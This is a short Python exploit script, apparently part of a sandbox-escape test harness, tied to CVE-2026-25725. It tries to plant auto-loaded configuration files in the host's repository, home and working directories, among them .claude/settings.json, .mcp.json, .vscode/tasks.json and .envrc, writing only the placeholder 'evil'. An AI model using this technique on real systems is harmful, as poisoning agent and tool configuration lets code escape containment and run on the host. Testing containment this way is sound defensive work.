"""Makes a settings file that is not there yet, which a program of the host would obey later: CVE-2026-25725."""

import os

from attack import HOST, attempt

names = (".claude/settings.json", ".circle/settings.toml", ".vscode/tasks.json", ".mcp.json", ".envrc", "circle.toml")
for name in names:
    for root in (HOST["repository"], HOST["home"], os.getcwd()):
        attempt(
            lambda: os.makedirs(os.path.dirname(f"{root}/{name}"), exist_ok=True),
            lambda: open(f"{root}/{name}", "w").write("evil") and None,
        )
